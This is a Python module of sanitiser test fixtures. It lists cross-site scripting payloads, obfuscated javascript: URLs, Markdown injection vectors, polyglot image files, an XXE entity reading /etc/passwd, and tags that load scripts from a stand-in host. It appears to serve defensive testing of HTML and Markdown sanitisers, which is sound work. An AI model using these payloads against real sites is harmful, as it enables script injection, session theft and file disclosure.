"""Known ways to make a page act: what people have put into texts so that a browser runs or loads something.

After the OWASP cheat sheet of filter evasion, the html5sec list and the tests of sanitisers; each written anew.
"""

from __future__ import annotations

__all__ = ["ADDRESSES", "BOMBS", "MARKDOWN", "TAGS"]

#: Addresses that must lead nowhere.
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "java\x00script:alert(1)", "\x01javascript:alert(1)", "javascript\x3aalert(1)",
    "&#106;avascript:alert(1)", "&#x6A&#x61&#x76&#x61script:alert(1)", "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&#14;javascript:alert(1)", "vbscript:msgbox(1)",
    "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>", "data:image/svg+xml;base64,PHN2Zy8+", "data:application/xhtml+xml,x",
    "data:,x", "data:image/png;base64,PHNjcmlwdD4=", "file:///etc/passwd", "ftp://a.example/", "blob:https://a.example/x",
    "filesystem:https://a.example/x", "view-source:https://a.example/", "about:blank", "chrome://settings", "res://x",
    "jar:https://a.example/x!/y", "mailto:", "mailto:a@b.example?attach=/etc/passwd", "tel:123", "http://",
    "https://a.example:99999/", "https://[::1/", "https://user:pass@a.example/", "https://a.example\"onmouseover=alert(1)",
    "//", "\\\\host\\share", "#\"onclick=alert(1)", "%6aavascript:alert(1)", "javascript://a.example/%0aalert(1)",
    "https://xn--a.example/", "https://XN--A.example/", f"https://{'x' * 64}.example/", f"https://{'x.' * 127}example/",
    "feed:javascript:alert(1)", "\u200bjavascript:alert(1)", "\uff4aavascript:alert(1)",
)  # fmt: skip

#: Tags that must be gone.
TAGS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//a.example/x.js></SCRIPT>", "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x0c>alert(1)</script >",
    "<script type='text/plain'>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<img src=https://a.example/track.gif>", "<img srcset='https://a.example/x 1x'>",
    "<img src=a.png srcset='javascript:alert(1) 1x' sizes=1>", "<img src='javascript:alert(1)'>", "<img lowsrc=//a.example/x>",
    "<img dynsrc='javascript:alert(1)'>", "<img src=x style='background:url(//a.example/x)'>", "<image href=//a.example/x>",
    "<picture><source srcset=//a.example/x><img src=x></picture>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=//a.example/x /></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><use href=//a.example/x#y></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>", "<svg><set attributeName=onload to=alert(1)></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>", "<svg><style>@import'//a.example/x'</style>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=//a.example>",
    "<frameset><frame src=javascript:alert(1)></frameset>", "<object data=javascript:alert(1)>", "<object data=//a.example/x.swf>",
    "<embed src=javascript:alert(1)>", "<applet code=x codebase=//a.example>", "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<video poster=//a.example/x>", "<track src=//a.example/x>",
    "<form action=javascript:alert(1)><input type=submit></form>", "<form><button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>", "<input type=image src=//a.example/x>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>", "<keygen autofocus onfocus=alert(1)>", "<isindex action=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=Set-Cookie content=x>",
    "<meta http-equiv=Content-Security-Policy content=x>", "<base href=//a.example/>", "<base href='javascript:/'>",
    "<link rel=stylesheet href=//a.example/x.css>", "<link rel=import href=//a.example/x>", "<link rel=prefetch href=//a.example/x>",
    "<style>@import '//a.example/x.css';</style>", "<style>body{background:url(javascript:alert(1))}</style>",
    "<style><!--</style><script>alert(1)//--></script>", "<style>*{-moz-binding:url(//a.example/x)}</style>",
    "<p style='background:url(//a.example/x)'>x</p>", "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>", "<p style=\"x:\\65xpression(alert(1))\">x</p>", "<font style='x:url(//a.example)'>x</font>",
    "<body onload=alert(1)>", "<body background=//a.example/x>", "<table background=//a.example/x><tr><td background=javascript:x>x</table>",
    "<div onclick=alert(1)>x</div>", "<div ONMOUSEOVER=alert(1)>x</div>", "<div/onclick=alert(1)>x", "<p onclick\n=\nalert(1)>x</p>",
    "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<bgsound src=javascript:alert(1)>",
    "<layer src=//a.example/x>", "<xml id=i><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>", "<xss onclick=alert(1)>x</xss>",
    "<a href=javascript:alert(1)>x</a>", "<a href=//a.example target=_blank ping=//b.example onclick=alert(1)>x</a>",
    "<a href='data:text/html,x'>x</a>", "<a xlink:href=javascript:alert(1)>x</a>", "<area href=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>", "<xmp><script>alert(1)</script></xmp>",
    "<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>", "<plaintext><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>", "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script> -->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\x3cscript\\x3e", "+ADw-script+AD4-",
    "\uff1cscript\uff1ealert(1)", "<\u212Dscript>alert(1)", "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<script>\u2028alert(1)</script>",
    "<p title=\"</p><script>alert(1)</script>\">x</p>", "<p title='\"><script>alert(1)</script>'>x</p>", "</p></body></html><script>alert(1)</script>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</pre><script>x</script>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= 1 %>", "<portal src=//a.example>", "<dialog open onclose=alert(1)>x",
    "<slot onslotchange=alert(1)>", "<custom-element is=x>y</custom-element>", "<p id=location name=cookie>x</p>", "<p class=scene-break>x</p>",
    "<ruby onclick=alert(1)>x<rt onclick=alert(1)>y</rt></ruby>", "<ol start='1\" onclick=alert(1)'><li value=javascript:x>y</ol>",
    "<td colspan='2\" onclick=x'>y</td>", "<hr onclick=alert(1)>", "<br onclick=alert(1)>", "<pre onclick=alert(1)>x</pre>",
    "<h2 onclick=alert(1)>Chapter 1</h2>", "<blockquote cite=javascript:alert(1)>x</blockquote>", "<q cite=javascript:alert(1)>x</q>",
    "<del cite=javascript:alert(1)>x</del>", "<figure onclick=alert(1)><img src=x><figcaption onclick=x>y</figcaption></figure>",
)  # fmt: skip

#: Markdown of pandoc, CommonMark and their kin that would act.
MARKDOWN = (
    "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x]( javascript:alert(1) )", "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))", "[x](JAVASCRIPT&#58;alert(1))", "[x](vbscript:x)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][y]\n\n[y]: javascript:alert(1)", "[y]\n\n[y]: <javascript:alert(1)>", "<javascript:alert(1)>", "<vbscript:x>",
    "![x](javascript:alert(1))", "![x](https://a.example/p.png\"onerror=\"alert(1))", "![x](x){onerror=alert(1)}",
    "[x](https://a.example){onclick=alert(1)}", "[x](https://a.example \"a\\\" onclick=\\\"alert(1)\")", "`<script>x</script>`{=html}",
    "```{=html}\n<script>alert(1)</script>\n```", "~~~ {.x onclick=alert(1)}\nx\n~~~", "# T {onclick=alert(1)}", "::: {onclick=alert(1)}\nx\n:::",
    "[x]{onclick=alert(1)}", "[[javascript:alert(1)]]", "[[x|javascript:alert(1)]]", "![[https://a.example/x]]", "$$\\href{javascript:alert(1)}{x}$$",
    "\\href{javascript:alert(1)}{x}", "[^1]\n\n[^1]: <script>alert(1)</script>", "<div markdown=1 onclick=alert(1)>*x*</div>",
    "[![x](javascript:alert(1))](javascript:alert(2))", "[a](https://a.example/<script>alert(1)</script>)", "<https://a.example/\"onclick=alert(1)>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |", "> <script>\n> alert(1)\n> </script>",
    "- <script>\n  alert(1)\n  </script>", "<!-- chapter {\"title\":\"--><script>alert(1)</script>\"} -->", "{{< raw >}}<script>x</script>{{< /raw >}}",
    "<details>\n<summary onclick=x>\n\n*x*", "\\<script\\>alert(1)\\</script\\>", "&lt;script&gt;alert(1)&lt;/script&gt;", "{% raw %}<script>{% endraw %}",
)  # fmt: skip

#: Files of a picture that act.
BOMBS = (
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
    b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><image href='https://a.example/x'/></svg>",
    b"<html><script>alert(1)</script></html>",
    b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
    b"GIF89a/*<script>alert(1)</script>*/",
)
